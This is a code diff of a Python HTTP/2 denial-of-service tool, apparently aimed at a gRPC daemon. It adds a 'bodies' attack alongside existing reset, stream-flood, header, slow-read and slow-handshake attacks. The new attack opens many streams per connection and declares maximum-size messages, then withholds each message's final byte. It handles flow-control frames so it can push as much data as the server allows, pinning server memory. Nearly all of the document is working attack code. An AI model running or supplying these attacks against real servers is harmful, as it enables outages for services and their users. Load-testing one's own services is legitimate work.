@@ -63,7 +63,7 @@ EMPTY = b"\0\0\0\0\0"
 
 
 class Connection:
-    """One connection with TLS and HTTP/2, which reads what comes and forgets it."""
+    """One connection with TLS and HTTP/2, which forgets what it reads."""
 
     def __init__(self, target, context, window=65535):
         host, port = target.rsplit(":", 1)
@@ -78,6 +78,9 @@ class Connection:
         self.stream += 2
         return self.stream - 2
 
+    def take(self, received):
+        """What came."""
+
     def pump(self, reads=True):
         """Sends what waits and reads what came, as far as that goes at once."""
         try:
@@ -89,8 +92,9 @@ class Connection:
             self.gone = True
         try:
             while reads and not self.gone:
-                if not self.socket.recv(65536):
-                    self.gone = True
+                received = self.socket.recv(65536)
+                self.gone = not received
+                self.take(received)
         except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
             pass
         except OSError:
@@ -176,6 +180,82 @@ class SlowReads(Attack):
         connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST) + frame(DATA, END_STREAM, stream, EMPTY)
 
 
+class Bodies(Attack):
+    """Calls whose requests are as long as they may be, and lack their last byte."""
+
+    connections = 8
+    LENGTH = 1 << 20  # of a message, as the daemon takes it
+    MOST = 256  # on a connection, as it allows
+
+    def connect(self):
+        return Sender(self.target, self.context)
+
+    def unit(self, connection):
+        if connection.stream > 2 * self.MOST:
+            return connection.feed()
+        stream = connection.next_stream()
+        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST)
+        # Five bytes of gRPC's own stand before the message.
+        connection.owes[stream] = [b"\0" + struct.pack(">I", self.LENGTH), 5 + self.LENGTH - 1]
+        connection.feed()
+
+
+class Sender(Connection):
+    """One that sends as much as it is let to (RFC 9113, section 5.2)."""
+
+    CHUNK = bytes(16384)
+
+    def __init__(self, target, context):
+        super().__init__(target, context)
+        self.owes = {}  # by stream: its first bytes, and how many there are to send with them
+        self.initial = 65535
+        self.room = 65535  # of the connection
+        self.rooms = {}  # of each stream, more than the initial one
+        self.heard = b""
+
+    def feed(self):
+        for stream, owed in list(self.owes.items()):
+            while owed[1] > 0 and len(self.backlog) < 1 << 16:
+                size = min(owed[1], len(self.CHUNK), self.room, self.initial + self.rooms.get(stream, 0))
+                if size <= 0:
+                    break
+                part = (owed[0] + self.CHUNK)[:size]
+                owed[0] = owed[0][size:]
+                owed[1] -= size
+                self.room -= size
+                self.rooms[stream] = self.rooms.get(stream, 0) - size
+                self.backlog += frame(DATA, 0, stream, part)
+            if owed[1] == 0:
+                del self.owes[stream]
+
+    def take(self, received):
+        self.heard += received
+        while len(self.heard) >= 9:
+            length = int.from_bytes(self.heard[:3], "big")
+            if len(self.heard) < 9 + length:
+                return
+            kind, flags = self.heard[3], self.heard[4]
+            stream = int.from_bytes(self.heard[5:9], "big") & 0x7FFFFFFF
+            payload = self.heard[9 : 9 + length]
+            self.heard = self.heard[9 + length :]
+            if kind == WINDOW_UPDATE:
+                more = int.from_bytes(payload, "big")
+                if stream == 0:
+                    self.room += more
+                else:
+                    self.rooms[stream] = self.rooms.get(stream, 0) + more
+            elif kind == SETTINGS and not flags & ACK:
+                for i in range(0, length, 6):
+                    number, value = struct.unpack(">HI", payload[i : i + 6])
+                    if number == 4:
+                        self.initial = value
+                self.backlog += frame(SETTINGS, ACK, 0)
+            elif kind == PING and not flags & ACK:
+                self.backlog += frame(PING, ACK, 0, payload)
+            elif kind == RST_STREAM:
+                self.owes.pop(stream, None)
+
+
 class Handshakes:
     """Connections that say a byte of their TLS handshake at a time."""
 
@@ -207,7 +287,14 @@ class Handshakes:
             self.lost += 1
 
 
-ATTACKS = {"resets": Resets, "streams": Streams, "headers": Headers, "slow_reads": SlowReads, "handshakes": Handshakes}
+ATTACKS = {
+    "resets": Resets,
+    "streams": Streams,
+    "headers": Headers,
+    "slow_reads": SlowReads,
+    "bodies": Bodies,
+    "handshakes": Handshakes,
+}
 
 
 def main():
